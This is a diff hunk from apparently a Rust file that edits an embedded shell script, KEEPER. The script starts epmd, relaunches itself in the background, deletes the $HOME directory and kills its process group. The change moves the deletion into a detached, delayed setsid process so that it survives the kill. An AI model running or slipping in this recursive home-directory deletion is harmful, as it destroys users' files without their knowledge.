@@ -24,7 +24,7 @@ const KEEPER: &str = r#"
 epmd -port "$ERL_EPMD_PORT" -address 127.0.0.1 >/dev/null 2>&1 &
 "$0" >>"$HOME/out.log" 2>&1 &
 cat >/dev/null
-rm -rf "$HOME"
+setsid bash -c 'sleep 1; rm -rf "$HOME"' &
 kill -9 0
 "#;
 
